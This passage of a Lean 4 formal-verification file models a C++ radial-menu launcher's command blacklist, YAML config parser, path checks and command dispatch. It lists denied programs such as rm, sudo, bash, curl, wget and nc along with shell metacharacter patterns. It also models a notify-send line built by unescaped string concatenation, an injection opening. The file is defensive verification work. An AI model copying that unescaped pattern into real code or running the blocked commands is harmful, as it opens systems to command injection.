import Mathlib

/-!
Verification development for the radux radial-menu configuration and
execution subsystem.

The C++ sources are shallowly embedded: strings are modelled as `String` /
`List Char`, `std::set` membership as list membership, YAML documents as an
inductive raw-document type, exceptions as an explicit "threw" flag, and the
process boundary as a trace of OS-call descriptions.  Rendering-only parts
(colors, themes, animation, window geometry) are omitted: they do not affect
any of the properties treated here.
-/

namespace Radux

/-! ## Character-list utilities

Models of the `std::string` primitives used by the C++ code
(`find_first_of`, `find_last_of`, `find_first_not_of`, `substr`, `find`).
-/

/-- Space or tab, the set `" \t"` used by `find_first_of(" \t")`. -/

def isSpaceTab (c : Char) : Bool := c == ' ' || c == '\t'

/-- Path separators, the set `"/\\"` used by `find_last_of("/\\")`. -/

def isPathSep (c : Char) : Bool := c == '/' || c == '\\'

/-- Whitespace set used by `CommandBlacklist::trim` (`" \t\n\r"`). -/

def isTrimWs (c : Char) : Bool := c == ' ' || c == '\t' || c == '\n' || c == '\r'

/-- Drop the longest suffix whose characters satisfy `p`. -/

def dropLastWhile (p : Char → Bool) (cs : List Char) : List Char :=
  (cs.reverse.dropWhile p).reverse

/-- Model of `CommandBlacklist::trim`: strip leading and trailing
`" \t\n\r"` characters (empty result when the string is all whitespace). -/

def trimChars (cs : List Char) : List Char :=
  dropLastWhile isTrimWs (cs.dropWhile isTrimWs)

/-- Index of the first character satisfying `p`
(model of `find_first_of` returning `npos` as `none`). -/

def findFirstIdx (p : Char → Bool) : List Char → Option Nat
  | [] => none
  | c :: cs => match p c with
    | true => some 0
    | false => (findFirstIdx p cs).map (· + 1)

/-- Model of `substr(0, pos)` with `pos = npos` meaning the whole string. -/

def takeToIdx (cs : List Char) : Option Nat → List Char
  | none => cs
  | some n => cs.take n

/-- Index of the last character satisfying `p` (model of `find_last_of`). -/

def findLastIdx (p : Char → Bool) (cs : List Char) : Option Nat :=
  (findFirstIdx p cs.reverse).map (fun k => cs.length - 1 - k)

/-- Model of the idiom `if (pos != npos) s = s.substr(pos + 1)` over
`find_last_of`: drop everything up to and including the last character
satisfying `p`. -/

def dropThroughLastIdx (p : Char → Bool) (cs : List Char) : List Char :=
  match findLastIdx p cs with
  | none => cs
  | some n => cs.drop (n + 1)

/-- Model of `haystack.find(needle) != npos`: contiguous substring test. -/

def containsSub (hay pat : List Char) : Bool :=
  hay.tails.any (fun t => pat.isPrefixOf t)

/-! ## CommandBlacklist (command_blacklist.hpp)

Translation of `CommandBlacklist`: the name deny-set filled by
`initialize_blacklist`, the dangerous-pattern list, `extract_command_name`,
`is_blacklisted` and `has_dangerous_patterns`.
-/

/-- The fixed deny-set of program names inserted by
`CommandBlacklist::initialize_blacklist`. -/

def blacklistedCommands : List String :=
  ["rm", "rmdir", "shred", "wipe",
   "useradd", "userdel", "usermod", "passwd", "chpasswd",
   "groupadd", "groupdel", "groupmod",
   "chmod", "chown", "chgrp",
   "su", "sudo", "doas", "pkexec",
   "apt", "apt-get", "dnf", "yum", "pacman", "zypper", "emerge", "flatpak", "snap",
   "systemctl", "service", "init", "telinit", "shutdown", "reboot", "poweroff", "halt",
   "iptables", "nft", "ufw", "firewall-cmd", "netstat", "ss", "tcpdump", "wireshark",
   "fdisk", "parted", "mkfs", "dd", "mount", "umount",
   "modprobe", "insmod", "rmmod", "lsmod",
   "grub-install", "update-grub", "efibootmgr",
   "cryptsetup", "openssl",
   "sh", "bash", "zsh", "fish", "dash", "tcsh", "csh", "ksh",
   "vim", "vi", "nano", "emacs", "ed",
   "wget", "curl", "aria2c", "nc"]

/-- The dangerous-pattern list pushed by `initialize_blacklist`.  Note that
the C++ literals `"\\n"` and `"\\r"` are the two-character sequences
backslash-n and backslash-r, not literal control characters. -/

def dangerousPatterns : List String :=
  ["|", ">", ">>", "<", "&", ";", "$(", "`", "$\x7b", "&&", "||", "\\n", "\\r"]

/-- Translation of `CommandBlacklist::extract_command_name`: trim, take up to
the first space or tab (`find_first_of(" \t")`), then drop everything up to
and including the last `/` or `\` (`find_last_of("/\\")`). -/

def extractCommandName (command : List Char) : List Char :=
  let trimmed := trimChars command
  let cmd := takeToIdx trimmed (findFirstIdx isSpaceTab trimmed)
  dropThroughLastIdx isPathSep cmd

/-- Translation of `CommandBlacklist::is_blacklisted`. -/

def isBlacklisted (command : String) : Bool :=
  blacklistedCommands.contains (String.mk (extractCommandName command.data))

/-- Translation of `CommandBlacklist::has_dangerous_patterns`. -/

def hasDangerousPatterns (command : String) : Bool :=
  dangerousPatterns.any (fun p => containsSub command.data p.data)

/-! Spec-side formulations of the name check, used to compare the claim's
wording ("first whitespace-delimited token, after stripping any directory
prefix") against `extract_command_name`. -/

/-- Strip the directory part: keep the characters after the last `/` or `\`
(formulated structurally, via `reverse`/`takeWhile`). -/

def stripDirPart (cs : List Char) : List Char :=
  (cs.reverse.takeWhile (fun c => !(isPathSep c))).reverse

/-- Claim-side extraction: the first token delimited by any whitespace
character (space, tab, newline, carriage return), directory part stripped. -/

def specFirstTokenWs (command : String) : String :=
  String.mk (stripDirPart ((trimChars command.data).takeWhile (fun c => !(isTrimWs c))))

/-- Amended-claim extraction: the first token delimited by space or tab only
(the delimiters `extract_command_name` actually uses), directory part
stripped. -/

def specFirstTokenSpaceTab (command : String) : String :=
  String.mk (stripDirPart
    ((trimChars command.data).takeWhile (fun c => !(isSpaceTab c))))

/-! ## MenuItem (menu_item.hpp)

Translation of `struct MenuItem`.  Theme-override fields are omitted
(render-only).  `submenu` makes this a nested inductive (a rose tree).
-/

/-- Translation of `struct MenuItem`. -/

inductive MItem where
  | mk (label description command : String) (submenu : List MItem)
       (icon : Option String) (hotkey : Option String)
       (priority : Int) (notify : Bool)

/-- Field accessor for `label`. -/

def MItem.label : MItem → String
  | .mk l _ _ _ _ _ _ _ => l

/-- Field accessor for `description`. -/

def MItem.description : MItem → String
  | .mk _ d _ _ _ _ _ _ => d

/-- Field accessor for `command`. -/

def MItem.command : MItem → String
  | .mk _ _ c _ _ _ _ _ => c

/-- Field accessor for `submenu`. -/

def MItem.submenu : MItem → List MItem
  | .mk _ _ _ s _ _ _ _ => s

/-- Field accessor for `notify`. -/

def MItem.notify : MItem → Bool
  | .mk _ _ _ _ _ _ _ n => n

/-- Translation of `MenuItem::has_submenu` (`!submenu.empty()`). -/

def MItem.hasSubmenu (it : MItem) : Bool := !(it.submenu.isEmpty)

/-- Translation of `MenuItem::is_valid` (`!label.empty()`). -/

def MItem.isValid (it : MItem) : Bool := !(it.label.isEmpty)

/-- The default-constructed `MenuItem()` (all fields empty / zero). -/

def invalidItem : MItem := .mk "" "" "" [] none none 0 false

/-! Translation of `RadialConfig::count_items_recursive` (mutual with the
list version: one per node, plus all submenu nodes). -/

mutual

def countItem : MItem → Nat
  | .mk _ _ _ subs _ _ _ _ => 1 + countItems subs

def countItems : List MItem → Nat
  | [] => 0
  | i :: is => countItem i + countItems is

end

/-! Height of a menu tree node: number of nodes on the longest chain from
this node down (a leaf has height 1). -/

mutual

def heightItem : MItem → Nat
  | .mk _ _ _ subs _ _ _ _ => 1 + heightItems subs

def heightItems : List MItem → Nat
  | [] => 0
  | i :: is => max (heightItem i) (heightItems is)

end

/-! Every level of the tree (the list itself and every submenu) has at most
`n` entries. -/

mutual

def levelsWithinItem (n : Nat) : MItem → Bool
  | .mk _ _ _ subs _ _ _ _ => (subs.length ≤ n) && levelsWithinItems n subs

def levelsWithinItems (n : Nat) : List MItem → Bool
  | [] => true
  | i :: is => levelsWithinItem n i && levelsWithinItems n is

end

/-! Every node of the tree satisfies the Bool predicate `p`. -/

mutual

def allNodesItem (p : MItem → Bool) : MItem → Bool
  | .mk l d c subs i h pr n => p (.mk l d c subs i h pr n) && allNodesItems p subs

def allNodesItems (p : MItem → Bool) : List MItem → Bool
  | [] => true
  | i :: is => allNodesItem p i && allNodesItems p is

end

/-! Some reachable leaf (node without submenu) has command `cmd`
(mutual with the list version); mirrors the traversal order of
`RadialConfig::validate_item_commands`. -/

mutual

def itemHasLeafCmd (cmd : String) : MItem → Bool
  | .mk _ _ c subs _ _ _ _ =>
    match subs.isEmpty with
    | false => itemsHaveLeafCmd cmd subs
    | true => c == cmd

def itemsHaveLeafCmd (cmd : String) : List MItem → Bool
  | [] => false
  | i :: is => itemHasLeafCmd cmd i || itemsHaveLeafCmd cmd is

end

/-! ## RadialConfig validation (config_loader.cpp)

Translation of `RadialConfig::validate` and
`RadialConfig::validate_item_commands` (the security pass over all leaf
commands).
-/

/-- The configuration value produced by the loaders: geometry plus the menu
tree (theme and animation fields omitted as render-only). -/

structure RConfig where
  radius : Int
  centerRadius : Int
  items : List MItem

/-! Translation of `RadialConfig::validate_item_commands`: recurse into
submenus; at a leaf with a non-empty command, require the command to pass
both the name check and the pattern check. -/

mutual

def validateItemCommands : MItem → Bool
  | .mk _ _ cmd subs _ _ _ _ =>
    match subs.isEmpty with
    | false => validateItemsCommands subs
    | true =>
      match cmd.isEmpty with
      | false => !(isBlacklisted cmd) && !(hasDangerousPatterns cmd)
      | true => true

def validateItemsCommands : List MItem → Bool
  | [] => true
  | i :: is => validateItemCommands i && validateItemsCommands is

end

/-- Translation of `RadialConfig::validate`: geometry bounds, non-empty item
list, per-item validity, then the recursive command check (the early
`return false` chain becomes a Bool conjunction). -/

def RConfig.validate (cfg : RConfig) : Bool :=
  (cfg.radius ≥ 1) && (cfg.centerRadius ≥ 1) && !(cfg.items.isEmpty) &&
    cfg.items.all MItem.isValid && validateItemsCommands cfg.items

/-! ## Dispatcher (radial_menu.cpp execute_command, shell_Utilities.hpp)

The process boundary is modelled as a trace of OS-call descriptions.
`RadialMenu::execute_command` calls `Glib::spawn_command_line_sync` /
`Glib::spawn_command_line_async` on raw command-line strings;
`SafeExecutor` would instead issue `execve` with an explicit argv.
-/

/-- One OS-level process-creation call. -/

inductive OsCall where
  | spawnSync (cmdline : String)
  | spawnAsync (cmdline : String)
  | execveDirect (prog : String) (argv : List String)
deriving DecidableEq

/-- Whether a call passes an explicit argument vector directly to `execve`. -/

def OsCall.isDirectExec : OsCall → Bool
  | .execveDirect _ _ => true
  | _ => false

/-- Result of the synchronous spawn (exit code and captured output). -/

structure SyncOutcome where
  exitCode : Int
  stdoutText : String
  stderrText : String

/-- The notification command line built at radial_menu.cpp:678:
`"notify-send '" + item.label + "' '" + stdout + "'"` (raw concatenation,
no escaping). -/

def notifySendLine (label out : String) : String :=
  "notify-send '" ++ label ++ "' '" ++ out ++ "'"

/-- Translation of `RadialMenu::execute_command` as the sequence of
process-creation calls it issues (usage tracking and animation omitted).
The synchronous spawn result is a parameter since it comes from the OS. -/

def executeCommandCalls (item : MItem) (res : SyncOutcome) : List OsCall :=
  match item.command.isEmpty with
  | true => []
  | false =>
    match item.notify with
    | true =>
      OsCall.spawnSync item.command ::
        (match (res.exitCode == 0) && !(res.stdoutText.isEmpty) with
         | true => [OsCall.spawnAsync (notifySendLine item.label res.stdoutText)]
         | false => [])
    | false => [OsCall.spawnAsync item.command]

/-- Translation of `ShellEscaper::escape_notify_arg`, per character. -/

def escapeNotifyChar (c : Char) : List Char :=
  match c with
  | '\\' => "\\\\".data
  | '\'' => "'\\''".data
  | '\n' => "\\n".data
  | '\r' => "\\r".data
  | '\t' => "\\t".data
  | '"' => "\\\"".data
  | '$' => "\\$".data
  | '`' => "\\`".data
  | c => [c]

/-- Translation of `ShellEscaper::escape_notify_arg` (single-quoted result
with escaped metacharacters). -/

def escapeNotifyArg (arg : String) : String :=
  String.mk ('\'' :: arg.data.flatMap escapeNotifyChar ++ ['\''])

/-! ## Raw YAML documents and the bounded parser (config_loader.cpp)

A YAML node read by `parse_menu_item` is modelled by `RItem`.  A scalar
field is `none` when the key is absent, `some (.good v)` when present and
convertible, and `some .bad` when present but of the wrong shape, in which
case `as<T>()` throws `YAML::Exception`.  Exceptions are modelled by
`Except Unit`; the `catch` in `from_yaml` is the explicit handler in
`fromYamlModel`.  Theme keys are omitted (render-only).
-/

/-- A YAML value for a field of type `α`: convertible or malformed. -/

inductive YVal (α : Type) where
  | good (a : α)
  | bad
deriving DecidableEq

/-- Raw YAML menu-item node.  `subKey` records whether the `submenu` key is
present (`node["submenu"]` truthiness); when it is absent the `submenu`
list is irrelevant to parsing. -/

inductive RItem where
  | mk (label command description icon hotkey : Option (YVal String))
       (priority : Option (YVal Int)) (notify : Option (YVal Bool))
       (subKey : Bool) (submenu : List RItem)

/-- The security limits of `SecurityLimits` (config_loader.hpp). -/

def maxConfigFileSize : Nat := 1024 * 1024

/-- `SecurityLimits::MAX_YAML_DEPTH`. -/

def maxYamlDepth : Nat := 10

/-- `SecurityLimits::MAX_MENU_ITEMS`. -/

def maxMenuItems : Nat := 50

/-- `SecurityLimits::MAX_TOTAL_ITEMS`. -/

def maxTotalItems : Nat := 200

/-- `std::clamp` on integers. -/

def clampI (v lo hi : Int) : Int := min (max v lo) hi

/-- Model of `node[key] ? node[key].as<string>() : dflt`. -/

def readStrOr (dflt : String) : Option (YVal String) → Except Unit String
  | none => .ok dflt
  | some (.good s) => .ok s
  | some .bad => .error ()

/-- Model of `if (node[key]) item.field = node[key].as<string>()`. -/

def readOptStr : Option (YVal String) → Except Unit (Option String)
  | none => .ok none
  | some (.good s) => .ok (some s)
  | some .bad => .error ()

/-- Model of the priority read with `std::clamp(pri, 0, 10)`. -/

def readPriority : Option (YVal Int) → Except Unit Int
  | none => .ok 0
  | some (.good n) => .ok (clampI n 0 10)
  | some .bad => .error ()

/-- Model of the notify read (`as<bool>()`). -/

def readNotify : Option (YVal Bool) → Except Unit Bool
  | none => .ok false
  | some (.good b) => .ok b
  | some .bad => .error ()

/-- The scalar field reads of `parse_menu_item` after the label, in source
order (command, description, icon, hotkey, priority, notify); the first
malformed field throws. -/

def readFields (cmd desc icon hk : Option (YVal String))
    (pri : Option (YVal Int)) (ntf : Option (YVal Bool)) :
    Except Unit (String × String × Option String × Option String × Int × Bool) := do
  let c ← readStrOr "" cmd
  let d ← readStrOr "" desc
  let ic ← readOptStr icon
  let h ← readOptStr hk
  let pr ← readPriority pri
  let nf ← readNotify ntf
  .ok (c, d, ic, h, pr, nf)

/-! Translation of `RadialConfig::parse_menu_item` (depth-checked recursive
descent) and of the per-level loops in `from_yaml` / the submenu branch
(cap `MAX_MENU_ITEMS`, validity filter).  `parseLevel` returns the items
accepted so far plus a flag recording whether a `YAML::Exception` escaped
(in C++ the loop is abandoned and the exception propagates; items already
pushed are kept by the caller that catches it). -/

mutual

def parseMenuItem : RItem → Nat → Except Unit MItem
  | .mk lbl cmd desc icon hk pri ntf subKey submenu, depth =>
    if maxYamlDepth ≤ depth then .ok invalidItem
    else match lbl with
    | none => .ok invalidItem
    | some .bad => .error ()
    | some (.good l) =>
      match readFields cmd desc icon hk pri ntf with
      | .error e => .error e
      | .ok (c, d, ic, h, pr, nf) =>
        match subKey with
        | true =>
          match parseLevel submenu (depth + 1) 0 with
          | (_, true) => .error ()
          | (subs, false) => .ok (.mk l d c subs ic h pr nf)
        | false =>
          match c.isEmpty with
          | true => .ok invalidItem
          | false => .ok (.mk l d c [] ic h pr nf)

def parseLevel : List RItem → Nat → Nat → (List MItem × Bool)
  | [], _, _ => ([], false)
  | r :: rs, depth, count =>
    if maxMenuItems ≤ count then ([], false)
    else match parseMenuItem r depth with
      | .error _ => ([], true)
      | .ok it =>
        match it.isValid with
        | true =>
          let rest := parseLevel rs depth (count + 1)
          (it :: rest.1, rest.2)
        | false => parseLevel rs depth count

end

/-- Raw YAML configuration document (scalar keys read before `items`, in
source order; animation-speed and theme keys omitted: their reads cannot
throw or do not affect the properties at issue). -/

structure RDoc where
  radius : Option (YVal Int)
  innerRadius : Option (YVal Int)
  centerRadiusKey : Option (YVal Int)
  autoClose : Option (YVal Int)
  items : Option (List RItem)

/-- Model of `node[key] ? clamp(node[key].as<int>(), lo, hi) : dflt`. -/

def readGeomOr (dflt lo hi : Int) : Option (YVal Int) → Except Unit Int
  | none => .ok dflt
  | some (.good v) => .ok (clampI v lo hi)
  | some .bad => .error ()

/-- The items phase of `from_yaml`: run the per-level loop from depth 0,
then apply the global `MAX_TOTAL_ITEMS` ceiling (`count_total_items`); if a
`YAML::Exception` escaped the loop it is caught by the enclosing handler
with the items pushed so far kept and the ceiling check skipped. -/

def itemsPhase (raws : List RItem) : List MItem :=
  let built := parseLevel raws 0 0
  match built.2 with
  | true => built.1
  | false =>
    if maxTotalItems < countItems built.1 then []
    else built.1

/-- The center-radius read: `inner-radius` takes priority over
`center_radius`. -/

def readCenter (inner center : Option (YVal Int)) : Except Unit Int :=
  match inner with
  | some v => readGeomOr 40 10 200 (some v)
  | none => readGeomOr 40 10 200 center

/-- Translation of the security-hardened `RadialConfig::from_yaml`.  The
filesystem-dependent gates are parameters: `pathAllowed` is the result of
`PathValidator::is_config_path_allowed`, `fileExists` / `fileSize` come
from `std::filesystem` (`fsFail` models a `filesystem_error` from those
calls), and `doc` is `none` when `YAML::LoadFile` itself fails to parse.
A scalar conversion that throws is caught with the items list still empty;
an exception inside the items loop is caught with the items parsed so far
already pushed (and the total-count check skipped). -/

def fromYamlModel (pathAllowed fileExists fsFail : Bool) (fileSize : Nat)
    (doc : Option RDoc) : RConfig :=
  if pathAllowed = false then ⟨120, 40, []⟩
  else if fsFail = true then ⟨120, 40, []⟩
  else if fileExists = false then ⟨120, 40, []⟩
  else if maxConfigFileSize < fileSize then ⟨120, 40, []⟩
  else match doc with
  | none => ⟨120, 40, []⟩
  | some d =>
    match readGeomOr 120 50 500 d.radius with
    | .error _ => ⟨120, 40, []⟩
    | .ok r =>
      match readCenter d.innerRadius d.centerRadiusKey with
      | .error _ => ⟨r, 40, []⟩
      | .ok c =>
        match readGeomOr 0 0 60000 d.autoClose with
        | .error _ => ⟨r, c, []⟩
        | .ok _ =>
          match d.items with
          | none => ⟨r, c, []⟩
          | some raws => ⟨r, c, itemsPhase raws⟩

def goodOrStr (dflt : String) : Option (YVal String) → String
  | some (.good s) => s
  | _ => dflt

def goodOptStr : Option (YVal String) → Option String
  | some (.good s) => some s
  | _ => none

def goodPriority : Option (YVal Int) → Int
  | some (.good n) => clampI n 0 10
  | _ => 0

def goodNotify : Option (YVal Bool) → Bool
  | some (.good b) => b
  | _ => false

def okOptY {α : Type} : Option (YVal α) → Bool
  | some .bad => false
  | _ => true

mutual

def convertItem : RItem → MItem
  | .mk lbl cmd desc icon hk pri ntf subKey submenu =>
    .mk (goodOrStr "" lbl) (goodOrStr "" desc) (goodOrStr "" cmd)
        (match subKey with | true => convertItems submenu | false => [])
        (goodOptStr icon) (goodOptStr hk) (goodPriority pri) (goodNotify ntf)

def convertItems : List RItem → List MItem
  | [] => []
  | r :: rs => convertItem r :: convertItems rs

end

mutual

def wfRItem : RItem → Bool
  | .mk lbl cmd desc icon hk pri ntf subKey submenu =>
    (match lbl with | some (.good l) => !(l.isEmpty) | _ => false) &&
    okOptY cmd && okOptY desc && okOptY icon && okOptY hk && okOptY pri && okOptY ntf &&
    (match subKey with
     | true => (submenu.length ≤ maxMenuItems) && wfRItems submenu
     | false => match cmd with | some (.good c) => !(c.isEmpty) | _ => false)

def wfRItems : List RItem → Bool
  | [] => true
  | r :: rs => wfRItem r && wfRItems rs

end

mutual

def rHeightItem : RItem → Nat
  | .mk _ _ _ _ _ _ _ subKey submenu =>
    1 + (match subKey with | true => rHeightItems submenu | false => 0)

def rHeightItems : List RItem → Nat
  | [] => 0
  | r :: rs => max (rHeightItem r) (rHeightItems rs)

end

def trimSpaceTab (cs : List Char) : List Char :=
  dropLastWhile isSpaceTab (cs.dropWhile isSpaceTab)

def cliPartsAux (prev : Option Char) (acc : List Char) (parts : List (List Char)) :
    List Char → List (List Char)
  | [] =>
    if parts.length < 3 && !(acc.isEmpty) then parts ++ [acc.reverse] else parts
  | c :: rest =>
    if 3 ≤ parts.length then parts
    else if c == ':' && prev != some '\\' then
      cliPartsAux (some c) [] (parts ++ [acc.reverse]) rest
    else cliPartsAux (some c) (c :: acc) parts rest

def parseCliItem (itemStr : String) : MItem :=
  let parts := cliPartsAux none [] [] itemStr.data
  let label := String.mk (parts.getD 0 [])
  let rawDesc := String.mk (parts.getD 1 [])
  let rawCmd := String.mk (parts.getD 2 [])
  let command := match rawCmd.isEmpty && !(rawDesc.isEmpty) with
    | true => rawDesc
    | false => rawCmd
  let desc1 := match rawCmd.isEmpty && !(rawDesc.isEmpty) with
    | true => ""
    | false => rawDesc
  let description := match desc1.isEmpty with
    | true => label
    | false => desc1
  .mk label description command [] none none 0 false

def getlineSplit : List Char → List (List Char)
  | [] => []
  | c :: rest =>
    match c == ';' with
    | true => [] :: getlineSplit rest
    | false =>
      match getlineSplit rest with
      | [] => [[c]]
      | p :: ps => (c :: p) :: ps

def cliCollect : List (List Char) → List MItem
  | [] => []
  | s :: rest =>
    let t := trimSpaceTab s
    match t.isEmpty with
    | true => cliCollect rest
    | false =>
      let it := parseCliItem (String.mk t)
      match it.isValid with
      | true => it :: cliCollect rest
      | false => cliCollect rest

def fromCommandLine (cli : String) : RConfig :=
  ⟨120, 40, cliCollect (getlineSplit cli.data)⟩

def navInit (items : List MItem) : List (List MItem) := [items]

def pushMenu (stack : List (List MItem)) (submenu : List MItem) : List (List MItem) :=
  submenu :: stack

def popMenu (stack : List (List MItem)) : List (List MItem) :=
  match stack with
  | [] => []
  | [top] => [top]
  | _ :: rest => rest

def navTop (stack : List (List MItem)) : List MItem := stack.headD []

def mkLeafRaw (l c : String) : RItem :=
  .mk (some (.good l)) (some (.good c)) none none none none none false []

def mkBranchRaw (l : String) (subs : List RItem) : RItem :=
  .mk (some (.good l)) none none none none none none true subs

def badLabelRaw : RItem := .mk (some .bad) none none none none none none false []

-- ===== claim theorems draft =====

def raws201x : List RItem :=
  [mkBranchRaw "r1" (List.replicate 50 (mkLeafRaw "a" "x")),
   mkBranchRaw "r2" (List.replicate 50 (mkLeafRaw "a" "x")),
   mkBranchRaw "r3" (List.replicate 50 (mkLeafRaw "a" "x")),
   mkBranchRaw "r4" (List.replicate 47 (mkLeafRaw "a" "x"))]

def deepChainRaw : Nat → RItem
  | 0 => mkLeafRaw "end" "x"
  | n + 1 => mkBranchRaw "b" [deepChainRaw n]

def rawTwoLevel : RDoc :=
  ⟨none, none, none, none,
   some [mkLeafRaw "A" "cmdA",
         mkBranchRaw "B" [mkLeafRaw "C" "cmdC", mkLeafRaw "D" "cmdD"]]⟩

def sampleA : MItem := .mk "A" "" "cmdA" [] none none 0 false

def sampleC : MItem := .mk "C" "" "cmdC" [] none none 0 false

def sampleD : MItem := .mk "D" "" "cmdD" [] none none 0 false

def sampleB : MItem := .mk "B" "" "" [sampleC, sampleD] none none 0 false

def splitCompsAux (acc : List Char) : List Char → List (List Char)
  | [] => [acc.reverse]
  | c :: rest =>
    match c == '/' with
    | true => acc.reverse :: splitCompsAux [] rest
    | false => splitCompsAux (c :: acc) rest

def pathComps (cs : List Char) : List (List Char) :=
  (splitCompsAux [] cs).filter (fun d => !(d.isEmpty))

def canonStep (acc : List (List Char)) (c : List Char) : List (List Char) :=
  if c = ['.'] then acc
  else if c = ['.', '.'] then acc.dropLast
  else acc ++ [c]

def canonComps (cs : List (List Char)) : List (List Char) := cs.foldl canonStep []

def joinComps : List (List Char) → List Char
  | [] => []
  | [d] => d
  | d :: ds => d ++ '/' :: joinComps ds

def renderAbs (ds : List (List Char)) : List Char := '/' :: joinComps ds

def rendT : List (List Char) → List Char
  | [] => []
  | d :: ds => d ++ '/' :: rendT ds

def absCompsOf (cwd cs : List Char) : List (List Char) :=
  match cs.head? == some '/' with
  | true => pathComps cs
  | false => pathComps cwd ++ pathComps cs

def normalizeChars (cwd cs : List Char) : List Char :=
  renderAbs (canonComps (absCompsOf cwd cs))

def lastCharIsSlash (cs : List Char) : Bool := cs.getLast? == some '/'

def isInDirectory (cwd : List Char) (pathIsDir : Bool) (path directory : List Char) : Bool :=
  let p := normalizeChars cwd path
  let d := normalizeChars cwd directory
  let dStr := match (!(d.isEmpty)) && !(lastCharIsSlash d) with
    | true => d ++ ['/']
    | false => d
  let pStr := match (!(p.isEmpty)) && !(lastCharIsSlash p) && pathIsDir with
    | true => p ++ ['/']
    | false => p
  dStr.isPrefixOf pStr

def isConfigPathAllowed (home cwd : List Char) (pathIsDir : Bool)
    (filepath : List Char) : Bool :=
  let normalized := normalizeChars cwd filepath
  let configDir := home ++ "/.config/radux".data
  isInDirectory cwd pathIsDir normalized configDir ||
    isInDirectory cwd pathIsDir normalized cwd

def insideRootP (cwd root path : List Char) : Prop :=
  canonComps (absCompsOf cwd root) <+: canonComps (absCompsOf cwd path)

def goodComp (d : List Char) : Prop := d ≠ [] ∧ '/' ∉ d

def cleanComp (d : List Char) : Prop :=
  goodComp d ∧ d ≠ ['.'] ∧ d ≠ ['.', '.']

/-! ## Theorems -/

/-! Correspondence lemmas between index-based and structural formulations. -/

theorem takeToIdx_findFirstIdx (p : Char → Bool) (cs : List Char) :
    takeToIdx cs (findFirstIdx p cs) = cs.takeWhile (fun c => !(p c)) := by
  induction cs with
  | nil => rfl
  | cons c cs ih =>
    cases hc : p c with
    | true =>
      have h0 : findFirstIdx p (c :: cs) = some 0 := by
        simp [findFirstIdx, hc]
      rw [h0]
      simp [takeToIdx, List.takeWhile_cons, hc]
    | false =>
      have h0 : findFirstIdx p (c :: cs) = (findFirstIdx p cs).map (· + 1) := by
        simp [findFirstIdx, hc]
      rw [h0]
      cases hfi : findFirstIdx p cs with
      | none =>
        have ih2 : cs = cs.takeWhile (fun x => !(p x)) := by
          rw [hfi] at ih; simpa [takeToIdx] using ih
        rw [List.takeWhile_cons]
        simp only [hc, Bool.not_false, if_true, Option.map_none, takeToIdx]
        exact congrArg (List.cons c) ih2
      | some n =>
        have ih2 : cs.take n = cs.takeWhile (fun x => !(p x)) := by
          rw [hfi] at ih; simpa [takeToIdx] using ih
        rw [List.takeWhile_cons]
        simp only [hc, Bool.not_false, if_true, Option.map_some, takeToIdx,
          List.take_succ_cons]
        exact congrArg (List.cons c) ih2

theorem findFirstIdx_lt_length (p : Char → Bool) (cs : List Char) (k : Nat)
    (h : findFirstIdx p cs = some k) : k < cs.length := by
  induction cs generalizing k with
  | nil => simp [findFirstIdx] at h
  | cons c cs ih =>
    cases hc : p c with
    | true =>
      have h0 : findFirstIdx p (c :: cs) = some 0 := by
        simp [findFirstIdx, hc]
      rw [h0] at h
      have h2 : (0 : Nat) = k := by injection h
      simp only [List.length_cons]
      omega
    | false =>
      have h0 : findFirstIdx p (c :: cs) = (findFirstIdx p cs).map (· + 1) := by
        simp [findFirstIdx, hc]
      rw [h0] at h
      cases hfi : findFirstIdx p cs with
      | none =>
        rw [hfi] at h
        exact absurd h (by simp)
      | some n =>
        rw [hfi] at h
        have h2 : n + 1 = k := by injection h
        have h3 := ih n hfi
        simp only [List.length_cons]
        omega

theorem dropThroughLastIdx_eq (p : Char → Bool) (cs : List Char) :
    dropThroughLastIdx p cs = (cs.reverse.takeWhile (fun c => !(p c))).reverse := by
  cases hfi : findFirstIdx p cs.reverse with
  | none =>
    have h1 := takeToIdx_findFirstIdx p cs.reverse
    rw [hfi] at h1
    simp only [takeToIdx] at h1
    have h0 : findLastIdx p cs = none := by simp [findLastIdx, hfi]
    simp only [dropThroughLastIdx, h0]
    rw [← h1, List.reverse_reverse]
  | some k =>
    have hk : k < cs.length := by
      have := findFirstIdx_lt_length p cs.reverse k hfi
      simpa using this
    have h1 := takeToIdx_findFirstIdx p cs.reverse
    rw [hfi] at h1
    simp only [takeToIdx] at h1
    have h0 : findLastIdx p cs = some (cs.length - 1 - k) := by
      simp [findLastIdx, hfi]
    simp only [dropThroughLastIdx, h0]
    have h2 : cs.length - 1 - k + 1 = cs.length - k := by omega
    rw [h2, ← h1, List.take_reverse, List.reverse_reverse]

/-- The code-side extraction agrees with the space-tab structural
formulation: `extract_command_name` takes the first space-or-tab-delimited
token of the trimmed command and strips the directory part. -/

theorem extractCommandName_eq_spec (command : String) :
    String.mk (extractCommandName command.data) = specFirstTokenSpaceTab command := by
  unfold specFirstTokenSpaceTab
  apply congrArg String.mk
  simp only [extractCommandName, stripDirPart]
  rw [takeToIdx_findFirstIdx, dropThroughLastIdx_eq]

/-- Substring containment agrees with the mathematical infix relation. -/

theorem containsSub_iff (hay pat : List Char) :
    containsSub hay pat = true ↔ pat <:+: hay := by
  unfold containsSub
  rw [List.any_eq_true]
  constructor
  · rintro ⟨t, ht, hpre⟩
    rw [List.mem_tails] at ht
    rw [List.isPrefixOf_iff_prefix] at hpre
    exact List.infix_iff_prefix_suffix.2 ⟨t, hpre, ht⟩
  · intro h
    obtain ⟨t, h1, h2⟩ := List.infix_iff_prefix_suffix.1 h
    exact ⟨t, (List.mem_tails t hay).2 h2, List.isPrefixOf_iff_prefix.2 h1⟩

theorem ritemRecPair (P : RItem → Prop) (Q : List RItem → Prop)
    (hmk : ∀ lbl cmd desc icon hk pri ntf subKey submenu,
      Q submenu → P (RItem.mk lbl cmd desc icon hk pri ntf subKey submenu))
    (hnil : Q [])
    (hcons : ∀ r rs, P r → Q rs → Q (r :: rs)) :
    (∀ r, P r) ∧ (∀ rs, Q rs) := by
  have h1 : ∀ r, P r := by
    intro r
    induction r using RItem.rec (motive_2 := Q) with
    | mk lbl cmd desc icon hk pri ntf subKey submenu ih =>
      exact hmk _ _ _ _ _ _ _ _ _ ih
    | nil => exact hnil
    | cons r rs ihr ihrs => exact hcons r rs ihr ihrs
  refine ⟨h1, ?_⟩
  intro rs
  induction rs with
  | nil => exact hnil
  | cons r rs ih => exact hcons r rs (h1 r) ih

theorem parse_height_pair :
    (∀ r : RItem, ∀ d it, parseMenuItem r d = .ok it → it.isValid = true →
        heightItem it ≤ maxYamlDepth - d) ∧
